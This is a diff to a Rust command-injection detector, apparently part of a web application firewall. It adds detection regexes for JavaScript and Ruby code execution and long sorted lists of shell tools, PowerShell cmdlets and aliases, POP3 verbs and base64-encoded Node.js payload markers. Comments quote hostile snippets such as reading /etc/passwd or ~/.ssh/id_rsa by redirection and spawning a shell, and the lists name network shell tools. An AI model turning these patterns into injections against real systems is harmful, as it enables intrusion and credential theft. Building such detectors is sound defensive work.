@@ -17,7 +17,7 @@
 //! markers, also base64-wrapped) are matched directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
 //! command-like words, but not in that shape.
 
-use super::gate::{gated, in_sorted, is_word, lit, lower, skip_space, starts_word, word_at};
+use super::gate::{call_follows, gated, in_sorted, is_word, lit, lower, skip_space, starts_word, word_at};
 use super::{in_markdown_code, is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger};
 use crate::swar;
 use crate::fields::{Field, Part, ValueType};
@@ -26,6 +26,9 @@ use std::borrow::Cow;
 
 pub(crate) struct Cmdi {
     rules: Rules,
+    /// A value that opens with one of [`MORE_CMDLETS`] and then a parameter, a pipe, a quoted or
+/// variable or path argument, or nothing (judged with its spelling as it arrived).
+    leading_cmdlet: regex::Regex,
     /// JavaScript, a command opening a line, batch conditionals, and values that are an automation
     /// tool's command line: an injection outside a JSON text field, where code samples, logs, documents
     /// and job definitions do not travel.
@@ -36,16 +39,17 @@ pub(crate) struct Cmdi {
 /// `new Function(`, `require('fs')`, `process.exit(`, `vm.runInNewContext(`, `this.constructor`),
 /// Node's file system and process calls (`fs.readFileSync(`, `createReadStream(`,
 /// `spawn('sh')`) and the endless loops that stall its one thread (`while(true)`,
-/// `while(!0)`): server-side code injection in a URL, header or form, but what a code snippet
+/// `while(!0)`, `for(;;)`): server-side code injection in a URL, header or form, but what a code snippet
 /// in a JSON text field (a gist, a support ticket) is made of, so only Medium there. What reaches
 /// the runtime or a shell (`child_process`, `process.mainModule`, `constructor.constructor`) is
 /// High anywhere.
-const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)|\b(?:(?:read|write|append|copy)file|unlink|symlink|link|l?ch(?:mod|own)|rm|rmdir|mkdir|mkdtemp|rename|f?truncate|[lf]?stat|open|opendir|readlink|readdir|realpath|exists|access|[lf]?utimes|f?datasync|fsync|close|cp|readv|writev)sync\s*\(|\bcreate(?:read|write)stream\s*\(|\b(?:un)?watchfile\s*\(|\bfs\s*\.\s*(?:promises\s*\.\s*)?[a-z]+\s*\(|\b(?:child_process|cp)\s*\.\s*(?:spawn|fork|exec|execfile)\s*\(|\b(?:spawn|fork)\s*\(\s*['`\x22]|\bconstructor\s*\[|\bbinding\s*\[|\bwhile\s*\(\s*(?:!+\s*(?:false|0|null|undefined|nan|\x22\x22|''|``)|(?:!!)*\s*(?:true|[1-9]\d*|infinity|\[\]|\{\}|\x22[^\x22]+\x22|'[^']+'|this|window))\s*\)";
+const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)|\b(?:(?:read|write|append|copy)file|unlink|symlink|link|l?ch(?:mod|own)|rm|rmdir|mkdir|mkdtemp|rename|f?truncate|[lf]?stat|open|opendir|readlink|readdir|realpath|exists|access|[lf]?utimes|f?datasync|fsync|close|cp|readv|writev)sync\s*\(|\bcreate(?:read|write)stream\s*\(|\b(?:un)?watchfile\s*\(|\bfs\s*\.\s*(?:promises\s*\.\s*)?[a-z]+\s*\(|\b(?:child_process|cp)\s*\.\s*(?:spawn|fork|exec|execfile)\s*\(|\b(?:spawn|fork)\s*\(\s*['`\x22]|\bconstructor\s*\[|\bbinding\s*\[|\bwhile\s*\(\s*(?:!+\s*(?:false|0|null|undefined|nan|\x22\x22|''|``)|(?:!!)*\s*(?:true|[1-9]\d*|infinity|\[\]|\{\}|\x22[^\x22]+\x22|'[^']+'|this|window))\s*\)|\bfor\s*\(\s*;\s*;\s*\)\s*(?:[{;]|$)";
 
 /// Ruby that runs a command or code (`Process.spawn(`, `Kernel.exec`, `IO.popen(`,
-/// `Open3.capture2(`, `%x(id)`, `instance_eval(`): server-side code injection in a URL, header or
+/// `Open3.capture2(`, `%x(id)`, `instance_eval(`, a command method sent by name
+/// (`Kernel.send(:system, ...)`, `const_get(:IO)`): server-side code injection in a URL, header or
 /// form, a snippet in a JSON text field.
-const RUBY_CODE: &str = r"\bprocess\s*\.\s*(?:spawn|fork|exec|daemon)\b|\bkernel\s*\.\s*(?:exec|system|spawn|fork|open|eval|syscall|`)|\bio\s*\.\s*popen\s*\(|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline[a-z_]*)\b|\b(?:instance|class|module)_eval\s*\(|(?:^|[^a-z0-9%])%x\s*[({\[|!]";
+const RUBY_CODE: &str = r"\bprocess\s*\.\s*(?:spawn|fork|exec|daemon)\b|\bkernel\s*\.\s*(?:exec|system|spawn|fork|open|eval|syscall|`)|\bio\s*\.\s*popen\s*\(|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline[a-z_]*)\b|\b(?:instance|class|module)_eval\s*\(|(?:^|[^a-z0-9%])%x\s*[({\[|!]|\b(?:__send__|public_send|send)\s*\(\s*:(?:system|exec|spawn|fork|eval|instance_eval|class_eval|module_eval|syscall|popen|open|load|require)\b|\bconst_get\s*\(\s*[:'\x22]\s*(?:kernel|io|process|open3|file|object)\b";
 
 /// Windows administration tools whose names are no word of prose, and those whose names are
 /// words with a subcommand that is not (`sc create`, `route print`): after a separator any
@@ -58,35 +62,45 @@ const WINDOWS_ADMIN: &str = "runas|setspn|extrac32|sc\\s+(?:create|config|stop|d
 const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip(?:\s+(?:a|addr|address|r|route|link|neigh|n))?|ps(?:\s+-?(?:aux|axu|ef|elf|ax))?|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";
 
 /// More programs, Unix and Windows, whose names are no word of prose (`bzcat`, `sshpass`,
-/// `sysctl`, `findstr`, `mklink`, `auditpol`): after a separator with an argument shape they are a
+/// `sysctl`, `findstr`, `mklink`, `auditpol`, PowerShell's aliases `gci`, `saps`, `ipmo`): after a separator with an argument shape they are a
 /// command line like any of [`STRONG`]. Sorted; also gate words.
 const TOOLS: &[&str] = &[
-    "7zr", "7zx", "adduser", "agetty", "appcmd", "aptitude", "arj", "ascii85", "aspell", "assoc", "auditpol", "aws",
-    "basenc", "bdehdcfg", "bginfo", "bootcfg", "bpftrace", "bsdcat", "bsdtar", "busctl", "byebug", "bzcat", "bzcmp",
-    "bzdiff", "bzegrep", "bzfgrep", "bzgrep", "bzless", "bzmore", "certbot", "chcp", "chflags", "chgrp", "chkdsk",
-    "chsh", "cleanmgr", "cmdl32", "cobc", "composer", "conhost", "coproc", "cowsay", "cpan", "cpanm", "csc",
-    "csplit", "csvde", "csvtool", "cupsfilter", "defrag", "deno", "dhclient", "diskcopy", "diskshadow", "dmidecode",
-    "dmsetup", "dosbox", "doskey", "dsacls", "dsadd", "dsget", "dsmod", "dsrm", "dvips", "easy_install", "egrep",
-    "eventcreate", "eventvwr", "exiftool", "extrac32", "facter", "fgrep", "findstr", "fping", "ftpwho", "ftype",
-    "gawk", "gcloud", "gcore", "gem", "genisoimage", "getfacl", "getmac", "ghc", "ghci", "ginsh", "gpg", "gpg2",
-    "gpupdate", "groovy", "groupdel", "gtester", "gzcat", "gzexe", "helm", "hh", "htdigest", "htpasswd", "iconv",
-    "iftop", "iisreset", "ionice", "ip6tables", "ispell", "jexec", "jjs", "jsc", "jshell", "klist", "knife",
-    "ksetup", "ksshell", "ktpass", "lastcomm", "lastlog", "ldconfig", "ldifde", "lessecho", "lesspipe", "lftp",
-    "lftpget", "lodctr", "loginctl", "logman", "logsave", "lshw", "lualatex", "luatex", "lwp-dump", "lwp-mirror",
-    "lz4", "lzcat", "lzless", "lzma", "mailq", "mailx", "manage-bde", "mawk", "mklink", "mlocate", "mmc",
-    "mosquitto", "mountvol", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow",
-    "nasm", "nawk", "neofetch", "netdom", "nodejs", "nping", "nroff", "nstat", "ntbackup", "openfiles", "openvpn",
-    "openvt", "opkg", "osql", "pacman", "pcalua", "pdb", "pdflatex", "pdftex", "perfmon", "perl5", "perlsh", "pftp",
-    "pgrep", "php-cgi", "pidstat", "pigz", "pktmon", "popd", "powershell_ise", "psftp", "ptar", "puppet", "pushd",
-    "pypy", "qprocess", "raku", "rdpsign", "regini", "relog", "repadmin", "restic", "rexec", "rlwrap", "rmuser",
-    "rnano", "rpcping", "rpmdb", "rpmquery", "rpmverify", "run-mailcap", "run-parts", "runas", "rview", "rvim",
-    "rwinsta", "scriptrunner", "secedit", "setarch", "setfacl", "setspn", "sfc", "shuf", "slsh", "soelim", "sqlcmd",
-    "ssh-keygen", "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "subst", "svn", "sxstrace", "sysctl",
-    "systemd-resolve", "systemd-run", "tailf", "taskset", "tcping", "tcptraceroute", "timedatectl", "tpmtool",
-    "traceroute6", "tracerpt", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil", "unlz4", "unlzma",
-    "unpigz", "unzstd", "update-alternatives", "userdel", "uudecode", "uuencode", "valgrind", "vbc", "vigr",
-    "vimdiff", "vipw", "virsh", "waitfor", "wdsutil", "wecutil", "winnt32", "wireshark", "wsl", "xelatex", "xetex",
-    "xmodmap", "xzcat", "xzdec", "xzgrep", "xzless", "yarn", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
+    "7zr", "7zx", "adduser", "agetty", "appcmd", "aptitude", "arj", "ascii-xfr", "ascii85", "asnp", "aspell",
+    "assoc", "atobm", "auditpol", "aws", "basenc", "bdehdcfg", "bginfo", "bootcfg", "bpftrace", "bsdcat", "bsdtar",
+    "bundler", "busctl", "byebug", "bzcat", "bzcmp", "bzdiff", "bzegrep", "bzfgrep", "bzgrep", "bzless", "bzmore",
+    "bzz", "certbot", "chcp", "check_by_ssh", "check_cups", "check_log", "check_memory", "check_raid",
+    "check_ssl_cert", "check_statusfile", "chflags", "chgrp", "chkdsk", "choom", "chsh", "clang", "clc", "cleanmgr",
+    "clhy", "clp", "cls", "clv", "cmdl32", "cmp", "cnsn", "cobc", "comm", "composer", "conhost", "coproc", "cowsay",
+    "cowthink", "cpan", "cpanm", "cpi", "csc", "csplit", "csvde", "csvtool", "cupsfilter", "cvpa", "dbp", "defrag",
+    "deno", "dhclient", "diskcopy", "diskshadow", "dmidecode", "dmsetup", "dnsn", "dosbox", "doskey", "dsacls",
+    "dsadd", "dsget", "dsmod", "dsrm", "dvips", "easy_install", "ebp", "efax", "egrep", "epal", "epcsv", "epsn",
+    "eqn", "esh", "etsn", "eventcreate", "eventvwr", "exiftool", "exsn", "extrac32", "facter", "fgrep", "fhx",
+    "findstr", "fmt", "fping", "ftpwho", "ftype", "gawk", "gcb", "gci", "gcloud", "gcm", "gcore", "gcs", "gem",
+    "genisoimage", "getfacl", "getmac", "ghc", "ghci", "ghy", "gimp", "ginsh", "gjb", "gpg", "gpg2", "gpupdate",
+    "gpv", "grc", "groovy", "groupdel", "gsn", "gsnp", "gsv", "gtester", "gtz", "gwmi", "gzcat", "gzexe", "helm",
+    "hh", "htdigest", "htpasswd", "icm", "iconv", "iftop", "ihy", "iisreset", "ionice", "ip6tables", "ipal",
+    "ipcsv", "ipmo", "ipsn", "ise", "ispell", "iwmi", "jexec", "jjs", "jsc", "jshell", "klist", "knife", "ksetup",
+    "ksshell", "ktpass", "lastcomm", "lastlog", "ldconfig", "ldifde", "lessecho", "lesspipe", "lftp", "lftpget",
+    "lodctr", "loginctl", "logman", "logsave", "lshw", "lualatex", "luatex", "lwp-download", "lwp-dump",
+    "lwp-mirror", "lwp-request", "lz4", "lzcat", "lzless", "lzma", "mailq", "mailx", "manage-bde", "mawk", "mklink",
+    "mknod", "mlocate", "mmc", "mosquitto", "mountvol", "msgattrib", "msgcat", "msgconv", "msgfilter", "msgmerge",
+    "msguniq", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow", "nal", "nasm",
+    "nawk", "ndr", "neofetch", "netdom", "nmo", "nodejs", "nping", "npssc", "nroff", "nsn", "nstat", "ntbackup",
+    "octave", "ogv", "openfiles", "openvpn", "openvt", "opkg", "osql", "pacman", "pcalua", "pdb", "pdflatex",
+    "pdftex", "pdksh", "perfmon", "perl5", "perlsh", "pftp", "pgrep", "php-cgi", "pico", "pidstat", "pigz",
+    "pktmon", "popd", "powershell_ise", "pry", "psed", "psftp", "ptar", "ptx", "puppet", "pushd", "pypy",
+    "qprocess", "raku", "rbash", "rbp", "rcjb", "rcsn", "rdpsign", "rdr", "redcarpet", "regini", "relog",
+    "repadmin", "restic", "rexec", "rjb", "rlwrap", "rmo", "rmuser", "rnano", "rni", "rnp", "rpcping", "rpmdb",
+    "rpmquery", "rpmverify", "rsn", "rsnp", "rujb", "run-mailcap", "run-parts", "runas", "rview", "rvim", "rvpa",
+    "rwinsta", "rwmi", "sajb", "saps", "sasv", "sbp", "scb", "scriptrunner", "secedit", "setarch", "setfacl",
+    "setspn", "sfc", "shcm", "shuf", "sls", "slsh", "soelim", "spjb", "spps", "spsv", "sqlcmd", "ssh-keygen",
+    "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "stz", "subst", "sujb", "svn", "swmi", "sxstrace",
+    "sysctl", "systemd-resolve", "systemd-run", "tailf", "taskset", "tbl", "tcping", "tcptraceroute", "timedatectl",
+    "tpmtool", "traceroute6", "tracerpt", "trcm", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil",
+    "unexpand", "unlz4", "unlzma", "unpigz", "unzstd", "update-alternatives", "userdel", "uudecode", "uuencode",
+    "valgrind", "vbc", "vigr", "vimdiff", "vipw", "virsh", "volatility", "waitfor", "wdsutil", "wecutil",
+    "whiptail", "winnt32", "wireshark", "wjb", "wsl", "xelatex", "xetex", "xmodmap", "xmore", "xpad", "xzcat",
+    "xzdec", "xzgrep", "xzless", "yarn", "yelp", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
 ];
 
 /// The alternation of every command that counts after a separator with an argument shape:
@@ -95,13 +109,18 @@ pub(crate) fn strong_commands() -> String {
     format!("(?:{STRONG}|{})", TOOLS.join("|"))
 }
 
-/// Programs whose names are also words of English (`make`, `screen`, `patch`, `tree`, `su`):
+/// Programs whose names are also words of English (`make`, `screen`, `patch`, `tree`, `su`),
+/// or short enough to be an abbreviation (PowerShell's `gc`, `ni`, `sl`, `gps`):
 /// after a separator they count only with an option, a path or a redirection right after them
 /// (`;make -C /tmp`, `&tree c:\ /f`), which prose does not put there.
 const WORD_TOOLS: &[&str] = &[
-    "arch", "batch", "cipher", "column", "compress", "convert", "diff", "expand", "fc", "fetch", "finger",
-    "go", "history", "install", "jobs", "join", "links", "locate", "look", "make", "move", "paste", "patch", "pax", "rename",
-    "replace", "screen", "script", "service", "snap", "split", "ss", "su", "task", "tree", "wall", "watch",
+    "ab", "ac", "ar", "arch", "as", "batch", "bridge", "cancel", "cfs", "cipher", "cli", "column", "compress",
+    "convert", "cpp", "crash", "dialog", "diff", "ed", "es", "expand", "expect", "fc", "fetch", "finger", "fish",
+    "fl", "fold", "ft", "fw", "gal", "gbp", "gc", "gdr", "genie", "gi", "gin", "gl", "gm", "gmo", "go", "gp", "gps",
+    "gu", "gv", "hd", "highlight", "history", "ii", "install", "jobs", "join", "ld", "links", "locate", "look",
+    "lp", "make", "man", "mi", "move", "mp", "ni", "nl", "nm", "nv", "oh", "paste", "patch", "pax", "pic", "pr",
+    "red", "rename", "replace", "rev", "ri", "rp", "rv", "sal", "sash", "screen", "script", "service", "sg", "si",
+    "sl", "snap", "sp", "split", "ss", "su", "sv", "task", "tex", "tic", "tree", "ul", "wall", "watch", "yes",
 ];
 
 /// A value that starts with a configuration-management console or CLI (`ansible-console`,
@@ -130,6 +149,68 @@ fn is_probe(word: &[u8]) -> bool {
 
 /// PowerShell cmdlets that run code, fetch, or read and change the system. A regex.
 const POWERSHELL_CMDLETS: &str = "invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-(?:process|job|bitstransfer)|new-(?:object|service|itemproperty|localuser|scheduledtask(?:action)?)|get-(?:process|childitem|content|item|service|wmiobject|ciminstance|localuser|localgroupmember|aduser|adcomputer|acl|credential|clipboard|itemproperty|nettcpconnection)|set-(?:executionpolicy|mppreference|itemproperty|content|acl)|add-(?:mppreference|type|localgroupmember)|remove-(?:item|itemproperty|mppreference)|out-file|copy-item|move-item|stop-(?:process|service)|register-scheduledtask|convertto-securestring";
+
+/// The rest of PowerShell's own cmdlets (the published CRS list of `Verb-Noun` names, less
+/// [`POWERSHELL_CMDLETS`]): after a shell separator or `powershell`, or opening a value in their
+/// own capitalized spelling (`Get-Date`, not the slug `get-date`), a PowerShell command line.
+/// Sorted; also gate words.
+const MORE_CMDLETS: &[&str] = &[
+    "add-computer", "add-content", "add-history", "add-jobtrigger", "add-member", "add-pssnapin",
+    "checkpoint-computer", "clear-content", "clear-eventlog", "clear-history", "clear-host", "clear-item",
+    "clear-itemproperty", "clear-recyclebin", "clear-variable", "compare-object", "compress-archive",
+    "connect-pssession", "connect-wsman", "convert-path", "convertfrom-csv", "convertfrom-json",
+    "convertfrom-sddlstring", "convertfrom-securestring", "convertfrom-string", "convertfrom-stringdata",
+    "convertto-csv", "convertto-html", "convertto-json", "convertto-xml", "copy-itemproperty", "debug-job",
+    "debug-process", "debug-runspace", "disable-computerrestore", "disable-localuser", "disable-psbreakpoint",
+    "disable-psremoting", "disable-pssessionconfiguration", "disable-scheduledjob", "disable-wsmancredssp",
+    "disconnect-pssession", "disconnect-wsman", "enable-computerrestore", "enable-localuser", "enable-psbreakpoint",
+    "enable-psremoting", "enable-pssessionconfiguration", "enable-scheduledjob", "enable-wsmancredssp",
+    "enter-pshostprocess", "enter-pssession", "exit-pshostprocess", "exit-pssession", "expand-archive",
+    "export-alias", "export-clixml", "export-console", "export-counter", "export-csv", "export-formatdata",
+    "export-modulemember", "export-pssession", "find-command", "find-module", "find-package", "find-script",
+    "foreach-object", "format-custom", "format-hex", "format-list", "format-table", "format-wide", "get-alias",
+    "get-authenticodesignature", "get-cimassociatedinstance", "get-cimclass", "get-cimsession", "get-cmsmessage",
+    "get-command", "get-computerinfo", "get-computerrestorepoint", "get-counter", "get-culture", "get-date",
+    "get-event", "get-eventlog", "get-eventsubscriber", "get-executionpolicy", "get-filehash", "get-formatdata",
+    "get-help", "get-history", "get-host", "get-hotfix", "get-installedmodule", "get-itempropertyvalue", "get-job",
+    "get-localgroup", "get-location", "get-member", "get-module", "get-package", "get-pfxcertificate",
+    "get-psbreakpoint", "get-pscallstack", "get-psdrive", "get-psprovider", "get-psreadlineoption",
+    "get-psrepository", "get-pssession", "get-pssessionconfiguration", "get-pssnapin", "get-random", "get-runspace",
+    "get-scheduledjob", "get-timezone", "get-tracesource", "get-typedata", "get-unique", "get-uptime",
+    "get-variable", "get-winevent", "get-wsmaninstance", "group-object", "import-alias", "import-clixml",
+    "import-counter", "import-csv", "import-localizeddata", "import-module", "import-powershelldatafile",
+    "import-pssession", "install-module", "install-package", "install-script", "invoke-asworkflow",
+    "invoke-cimmethod", "invoke-history", "invoke-wsmanaction", "join-path", "measure-command", "measure-object",
+    "move-itemproperty", "new-alias", "new-ciminstance", "new-cimsession", "new-event", "new-eventlog",
+    "new-filecatalog", "new-guid", "new-item", "new-jobtrigger", "new-localgroup", "new-module",
+    "new-modulemanifest", "new-psdrive", "new-pssession", "new-pssessionconfigurationfile", "new-pssessionoption",
+    "new-scheduledjoboption", "new-temporaryfile", "new-timespan", "new-variable", "new-webserviceproxy",
+    "new-winevent", "new-wsmaninstance", "out-default", "out-gridview", "out-host", "out-null", "out-printer",
+    "out-string", "pop-location", "protect-cmsmessage", "publish-module", "publish-script", "push-location",
+    "read-host", "receive-job", "receive-pssession", "register-argumentcompleter", "register-cimindicationevent",
+    "register-engineevent", "register-objectevent", "register-psrepository", "register-pssessionconfiguration",
+    "register-scheduledjob", "register-wmievent", "remove-alias", "remove-ciminstance", "remove-cimsession",
+    "remove-computer", "remove-event", "remove-eventlog", "remove-job", "remove-localgroup",
+    "remove-localgroupmember", "remove-localuser", "remove-module", "remove-psdrive", "remove-pssession",
+    "remove-pssnapin", "remove-service", "remove-variable", "remove-wmiobject", "rename-computer", "rename-item",
+    "rename-itemproperty", "rename-localuser", "reset-computermachinepassword", "resolve-path", "restart-computer",
+    "restart-service", "restore-computer", "resume-job", "resume-service", "save-module", "save-script",
+    "select-object", "select-string", "select-xml", "send-mailmessage", "set-alias", "set-authenticodesignature",
+    "set-ciminstance", "set-clipboard", "set-date", "set-item", "set-localgroup", "set-localuser", "set-location",
+    "set-psbreakpoint", "set-psdebug", "set-psreadlineoption", "set-pssessionconfiguration", "set-scheduledjob",
+    "set-service", "set-strictmode", "set-timezone", "set-tracesource", "set-variable", "set-wmiinstance",
+    "set-wsmaninstance", "set-wsmanquickconfig", "show-command", "show-eventlog", "sort-object", "split-path",
+    "start-service", "start-sleep", "start-threadjob", "start-trace", "start-transaction", "start-transcript",
+    "stop-computer", "stop-job", "stop-trace", "stop-transcript", "suspend-job", "suspend-service",
+    "switch-process", "tee-object", "test-computersecurechannel", "test-connection", "test-filecatalog",
+    "test-json", "test-modulemanifest", "test-path", "test-wsman", "trace-command", "unblock-file",
+    "undo-transaction", "uninstall-module", "uninstall-package", "uninstall-script", "unprotect-cmsmessage",
+    "unregister-event", "unregister-psrepository", "unregister-pssessionconfiguration", "unregister-scheduledjob",
+    "update-formatdata", "update-help", "update-module", "update-modulemanifest", "update-script",
+    "update-typedata", "use-transaction", "wait-debugger", "wait-event", "wait-job", "wait-process", "where-object",
+    "write-debug", "write-error", "write-eventlog", "write-host", "write-information", "write-output",
+    "write-progress", "write-verbose", "write-warning",
+];
 
 /// Commands that are an attack after a separator whatever their arguments.
 const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";
@@ -266,13 +347,20 @@ fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
     if b.get(i) == Some(&b'$') && b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'{') {
         return true; // a variable run as the command (`&& $c $a`)
     }
+    if b.get(i) == Some(&b'/') && in_bin_dir(&b[i..]) {
+        return true; // a program by its path (`; /usr/bin/x`)
+    }
     let mut buf = [0u8; 24];
     let w = command_word(b, i, &mut buf);
     if w.is_empty() {
         return false;
     }
-    is_command(w) || is_imap_tag(w) || is_executable_name(w)
+    is_command(w) || is_imap_tag(w) || is_executable_name(w) || in_sorted(POP3_VERBS, w)
 }
+
+/// The POP3 commands that read, delete or log in (`RETR 1`, `DELE 1`, `USER x` then `PASS y`):
+/// a line of a mail session injected after a line break. Sorted; also gate words.
+const POP3_VERBS: &[&str] = &["apop", "auth", "dele", "list", "retr", "top", "uidl", "user"];
 
 /// Gate for `$(` and a backquote: a command follows ([`command_follows`]) or a file is read by
 /// redirection (`$(</etc/passwd)`, `` `<~/.ssh/id_rsa` ``).
@@ -318,7 +406,8 @@ fn is_imap_tag(w: &[u8]) -> bool {
 /// The markers of Node.js deserialization and child-process payloads (`_$$ND_FUNC$$_`,
 /// `__js_function`, `child_process`, `process.mainModule`, `eval(String.fromCharCode`,
 /// `process.binding`, `this.constructor`, `new Function(`, `String.fromCharCode`, `module.exports`,
-/// `global.process`) as they read inside base64 at each of the three byte
+/// `global.process`, `execSync(`, `spawnSync(`, `Process.spawn(`, `while(true)`) as they read
+/// inside base64 at each of the three byte
 /// alignments, lower-cased like the matching form: only the characters that depend on the marker
 /// alone are kept. Payloads are smuggled this way in cookies and tokens the application decodes.
 const BASE64_MARKERS: &[&str] = &[
@@ -333,6 +422,10 @@ const BASE64_MARKERS: &[&str] = &[
     "u3ryaw5nlmzyb21dagfyq29kz", "n0cmluzy5mcm9tq2hhcknvzg", "tdhjpbmcuznjvbunoyxjdb2rl",
     "bw9kdwxllmv4cg9ydh", "1vzhvszs5lehbvcnrz", "tb2r1bguuzxhwb3j0c",
     "z2xvymfslnbyb2nlc3", "dsb2jhbc5wcm9jzxnz", "nbg9iywwuchjvy2vzc",
+    "zxhly1n5bmmo", "v4zwntew5jk", "legvju3luyy",
+    "c3bhd25tew5jk", "nwyxduu3luyy", "zcgf3bln5bmmo",
+    "uhjvy2vzcy5zcgf3bi", "byb2nlc3muc3bhd24o", "qcm9jzxnzlnnwyxduk",
+    "d2hpbguodhj1zs", "doawxlkhrydwup", "3aglszsh0cnvlk",
 ];
 
 /// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`).
@@ -446,12 +539,25 @@ fn substring_expansion(b: &[u8], _s: usize, e: usize) -> bool {
     b.get(e + name) == Some(&b':') && b.get(e + name + 1).is_some_and(|&c| c.is_ascii_digit() || c == b'-')
 }
 
-/// Gate for Node.js `process`: a member that reaches the runtime follows (also past spaces).
-/// Gate for a function name: its call's `(` follows (past spaces).
-fn call_follows(b: &[u8], s: usize, e: usize) -> bool {
-    starts_word(b, s, e) && b.get(skip_space(b, e)) == Some(&b'(')
+/// Gate for a PowerShell verb (`clear-`, `format-`): the word it starts, hyphens included, is
+/// one of [`MORE_CMDLETS`] (a kebab-case slug like `format-date` is not).
+fn cmdlet_follows(b: &[u8], s: usize, _e: usize) -> bool {
+    let mut buf = [0u8; 40];
+    let mut n = 0;
+    for &c in b.get(s..).unwrap_or_default() {
+        if !(c.is_ascii_alphanumeric() || c == b'-') {
+            break;
+        }
+        if n == buf.len() {
+            return false;
+        }
+        buf[n] = c.to_ascii_lowercase();
+        n += 1;
+    }
+    (s == 0 || !is_word(b[s - 1])) && in_sorted(MORE_CMDLETS, &buf[..n])
 }
 
+/// Gate for Node.js `process`: a member that reaches the runtime follows (also past spaces).
 fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
     matches!(b.get(skip_space(b, e)), Some(b'.' | b'['))
 }
@@ -459,14 +565,15 @@ fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
